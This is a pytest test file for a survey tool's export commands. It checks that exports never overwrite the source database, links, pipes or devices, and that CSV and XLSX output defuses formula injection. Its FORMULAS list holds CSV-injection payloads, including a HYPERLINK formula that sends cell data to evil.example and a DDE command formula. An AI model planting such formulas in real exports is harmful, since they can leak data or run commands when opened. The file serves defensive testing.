"""A hostile user aims `summary --out` and the explorer's `e` at files that must survive, and
types formulas into the survey's free-text boxes (issue 15, items 3 and 7).

Every refused target is checked byte for byte (or by what it is: a link stays a link, a
pipe stays a pipe) after the command, not only by the exit code.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
import sys
import zipfile
from pathlib import Path

import duckdb
import polars as pl
import pytest
from explorer_helpers import make_app, pane, settle
from file_helpers import sha256
from hostile_data import copy_sample, recount
from textual.widgets import Input

from tui.cli import main
from tui.errors import ExportError
from tui.export import export_frame
from tui.paths import SAMPLE_DB, SAMPLE_DIR, SAMPLE_EXPORT
from tui.screens.export_screen import ExportScreen

POSIX = os.name == "posix"


def summary(*args: object) -> list[str]:
    return ["summary", "--role", "SPLW", "--theme", "training", *map(str, args)]


def refused(capsys, argv: list[str], why: str = "") -> str:
    """Run the CLI, expect exit 2 and one line on stderr saying the export was refused
    (and `why`, when given); return that line."""
    code = main(argv)
    err = capsys.readouterr().err
    assert code == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in err, err
    assert "cannot export to" in lines[0] and why in lines[0], lines[0]
    return lines[0]


FORCE = pytest.mark.parametrize("force", [(), ("--force",)], ids=["plain", "force"])


# -- item 3: what --out must never replace -------------------------------------------------
@FORCE
def test_out_naming_the_survey_being_read_is_refused(tmp_path, capsys, force) -> None:
    db = copy_sample(tmp_path)
    before = sha256(db)
    refused(capsys, summary("--db", db, "--out", db, "--format", "csv", *force), "survey")
    assert sha256(db) == before


@FORCE
def test_out_naming_the_survey_under_a_csv_name_is_refused(tmp_path, capsys, force) -> None:
    """The survey is read from a file called `.csv`: the name does not make it an export."""
    db = tmp_path / "responses.csv"
    shutil.copyfile(SAMPLE_DB, db)
    before = sha256(db)
    refused(capsys, summary("--db", db, "--out", db, *force), "survey")
    assert sha256(db) == before


def test_out_naming_a_hard_link_to_the_survey_is_refused(tmp_path, capsys) -> None:
    db = copy_sample(tmp_path)
    alias = tmp_path / "alias.csv"
    try:
        os.link(db, alias)
    except OSError:
        pytest.skip("no hard links on this file system")
    before = sha256(db)
    refused(capsys, summary("--db", db, "--out", alias, "--force"), "survey")
    assert sha256(db) == before and sha256(alias) == before


def test_out_naming_another_duckdb_file_is_refused_by_its_header(tmp_path, capsys) -> None:
    """Not the survey being read, and called .csv: its first bytes say DuckDB."""
    other = tmp_path / "last_year.csv"
    shutil.copyfile(SAMPLE_DB, other)
    before = sha256(other)
    refused(capsys, summary("--out", other, "--force"), "DuckDB")
    assert sha256(other) == before


def test_out_named_like_a_survey_database_is_refused(tmp_path, capsys) -> None:
    target = tmp_path / "new.duckdb"
    refused(capsys, summary("--out", target, "--format", "csv"), "database")
    assert not target.exists()


@FORCE
def test_out_naming_the_bundled_sample_is_refused(capsys, force) -> None:
    """The sample is the default --db: aiming --out at it must not replace it."""
    before = sha256(SAMPLE_DB)
    refused(capsys, summary("--out", SAMPLE_DB, "--format", "csv", *force))
    assert sha256(SAMPLE_DB) == before


@FORCE
def test_out_naming_the_bundled_sample_export_is_refused(capsys, force) -> None:
    before = sha256(SAMPLE_EXPORT)
    refused(capsys, summary("--out", SAMPLE_EXPORT, *force))
    assert sha256(SAMPLE_EXPORT) == before
    assert sorted(p.name for p in SAMPLE_DIR.iterdir() if p.name.startswith(".")) == []


@pytest.mark.skipif(not POSIX, reason="symbolic links need privileges on Windows")
@FORCE
def test_a_symlink_is_not_replaced_nor_written_through(tmp_path, capsys, force) -> None:
    real = tmp_path / "real.csv"
    real.write_text("keep me\n")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    refused(capsys, summary("--out", link, *force), "link")
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_text() == "keep me\n"


@pytest.mark.skipif(not POSIX, reason="symbolic links need privileges on Windows")
def test_a_symlink_to_the_survey_is_refused(tmp_path, capsys) -> None:
    db = copy_sample(tmp_path)
    link = tmp_path / "report.csv"
    link.symlink_to(db)
    before = sha256(db)
    refused(capsys, summary("--db", db, "--out", link, "--force"), "link")
    assert link.is_symlink() and sha256(db) == before


@pytest.mark.skipif(not POSIX, reason="symbolic links need privileges on Windows")
@FORCE
def test_a_dangling_symlink_is_not_replaced(tmp_path, capsys, force) -> None:
    link = tmp_path / "gone.csv"
    link.symlink_to(tmp_path / "nowhere" / "x.csv")
    refused(capsys, summary("--out", link, *force), "link")
    assert link.is_symlink()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
@FORCE
def test_a_named_pipe_is_not_replaced_nor_opened(tmp_path, capsys, force) -> None:
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    refused(capsys, summary("--out", fifo, *force), "regular")  # and never blocks on it
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


@FORCE
def test_a_device_is_not_replaced(tmp_path, capsys, force) -> None:
    """`/dev/null` as root became a regular file; a device node made here stands in."""
    if not hasattr(os, "mknod"):
        pytest.skip("no device nodes here")
    node = tmp_path / "null.csv"
    try:
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except (PermissionError, OSError):
        pytest.skip("cannot make a device node here (not root)")
    refused(capsys, summary("--out", node, *force), "regular")
    assert stat.S_ISCHR(os.lstat(node).st_mode)


def test_dev_null_stays_a_device(capsys) -> None:
    if not Path("/dev/null").exists():
        pytest.skip("no /dev/null")
    refused(capsys, summary("--out", "/dev/null", "--format", "csv", "--force"), "regular")
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_a_folder_is_not_replaced(tmp_path, capsys) -> None:
    folder = tmp_path / "out.csv"
    folder.mkdir()
    (folder / "inside").write_text("x")
    refused(capsys, summary("--out", folder, "--force"), "folder")
    assert (folder / "inside").read_text() == "x"


def test_an_existing_export_is_replaced_only_with_force(tmp_path, capsys) -> None:
    target = tmp_path / "training.csv"
    assert main(summary("--out", target)) == 0
    capsys.readouterr()
    target.write_text("my edited copy\n")
    refused(capsys, summary("--out", target), "--force")
    assert target.read_text() == "my edited copy\n"
    assert main(summary("--out", target, "--force")) == 0
    assert "# view:" in target.read_text(encoding="utf-8")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["training.csv"]


def test_api_refuses_an_existing_file_unless_asked(tmp_path) -> None:
    target = tmp_path / "x.md"
    target.write_text("mine")
    frame = pl.DataFrame({"a": [1]})
    with pytest.raises(ExportError):
        export_frame(frame, target, "markdown", {})
    assert target.read_text() == "mine"
    export_frame(frame, target, "markdown", {}, overwrite=True)
    assert target.read_text() != "mine"


async def _export(pilot, folder: Path) -> None:
    await pilot.press("e")
    await pilot.pause()
    assert isinstance(pilot.app.screen, ExportScreen)
    pilot.app.screen.query_one(Input).value = str(folder)
    await pilot.press("enter")  # the first format: CSV
    await settle(pilot)


async def test_explorer_export_never_replaces_an_earlier_file_or_a_link(tmp_path) -> None:
    keep = tmp_path / "keep.csv"
    keep.write_text("earlier\n")
    app = make_app()
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await _export(pilot, tmp_path)
        first = pane(app).last_export
        assert first is not None
        first.write_text("edited by hand\n")
        if POSIX:  # the next free name is a link to someone's file: not taken either
            first.with_name(f"{first.stem}-2{first.suffix}").symlink_to(keep)
        await _export(pilot, tmp_path)
        second = pane(app).last_export
    assert second is not None and second != first
    assert not second.is_symlink() and "# view:" in second.read_text(encoding="utf-8")
    assert first.read_text() == "edited by hand\n"
    assert keep.read_text() == "earlier\n"


# -- item 7: formulas in CSV cells ---------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-1_000",
]
NUMBERS = ["-5", "+3.5", "-0.25e3"]  # text that is a number: left as it is


def formula_copy(folder: Path) -> Path:
    """SPLW employer options and SPLW comments typed by an attacker."""
    path = copy_sample(folder, "formulas.duckdb")
    con = duckdb.connect(str(path))
    try:
        orders = [
            r[0]
            for r in con.execute(
                "SELECT option_order FROM options WHERE role = 'SPLW' AND question_id = "
                "'employer' ORDER BY option_order"
            ).fetchall()
        ]
        labels = [*FORMULAS[:3], *NUMBERS[:3]]
        for order, label in zip(orders, labels, strict=False):
            con.execute(
                "UPDATE options SET label = ? WHERE role = 'SPLW' AND question_id = "
                "'employer' AND option_order = ?",
                [label, order],
            )
        rows = [
            r[0]
            for r in con.execute(
                "SELECT rowid FROM answers WHERE role = 'SPLW' AND text_value IS NOT NULL "
                "ORDER BY rowid"
            ).fetchall()
        ]
        for rowid, text in zip(rows, FORMULAS + NUMBERS, strict=False):
            con.execute("UPDATE answers SET text_value = ? WHERE rowid = ?", [text, rowid])
        con.execute("CHECKPOINT")
    finally:
        con.close()
    recount(path)
    return path


def csv_cells(text: str) -> list[str]:
    body = "\n".join(line for line in text.splitlines() if not line.startswith("#"))
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def assert_inert(cells: list[str], expected: list[str]) -> None:
    for value in expected:
        if value in NUMBERS:
            assert value in cells, value
        else:
            assert "'" + value in cells, value
            assert value not in cells, value
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert cell in NUMBERS or cell.lstrip("+-").replace(".", "").isdigit(), cell


@pytest.mark.parametrize("how", ["stdout", "out"])
def test_csv_of_a_theme_neutralises_formula_options(tmp_path, capsys, how) -> None:
    db = formula_copy(tmp_path)
    argv = ["summary", "--db", str(db), "--role", "SPLW", "--theme", "demographics"]
    if how == "stdout":
        assert main([*argv, "--format", "csv"]) == 0
        text = capsys.readouterr().out
    else:
        out = tmp_path / "demographics.csv"
        assert main([*argv, "--out", str(out)]) == 0
        text = out.read_text(encoding="utf-8")
    assert_inert(csv_cells(text), [*FORMULAS[:3], *NUMBERS])


@pytest.mark.parametrize("how", ["stdout", "out"])
def test_csv_of_comments_neutralises_formulas(tmp_path, capsys, how) -> None:
    db = formula_copy(tmp_path)
    argv = [
        "summary",
        "--db",
        str(db),
        "--role",
        "SPLW",
        "--theme",
        "comments",
        "--min-comments",
        "5",
    ]
    if how == "stdout":
        assert main([*argv, "--format", "csv"]) == 0
        text = capsys.readouterr().out
    else:
        out = tmp_path / "comments.csv"
        assert main([*argv, "--out", str(out)]) == 0
        text = out.read_text(encoding="utf-8")
    cells = csv_cells(text)
    shown = [v for v in FORMULAS + NUMBERS if v in cells or "'" + v in cells]
    assert len(shown) >= 4, cells  # the attacker's comments really are in the file
    assert_inert(cells, shown)


def test_csv_headers_are_neutralised_too(tmp_path) -> None:
    frame = pl.DataFrame({"=1+1": ["a"], "@cmd": ["b"], "n": [1]})
    out = export_frame(frame, tmp_path / "h.csv", "csv", {})
    header = next(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert header == ["'=1+1", "'@cmd", "n"]


def test_xlsx_writes_formula_text_as_strings(tmp_path, capsys) -> None:
    db = formula_copy(tmp_path)
    out = tmp_path / "demographics.xlsx"
    assert (
        main(
            [
                "summary",
                "--db",
                str(db),
                "--role",
                "SPLW",
                "--theme",
                "demographics",
                "--out",
                str(out),
            ]
        )
        == 0
    )
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode("utf-8") for n in sheets)
    assert "<f>" not in xml and "<f " not in xml  # no formula cell anywhere
    data = pl.read_excel(out, sheet_name="data")
    assert set(FORMULAS[:3]) <= set(data["option"].drop_nulls())  # kept as typed


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permission bits")
def test_a_refused_target_leaves_no_temp_file(tmp_path, capsys) -> None:
    db = copy_sample(tmp_path)
    refused(capsys, summary("--db", db, "--out", db, "--format", "csv"), "survey")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["survey.duckdb"]
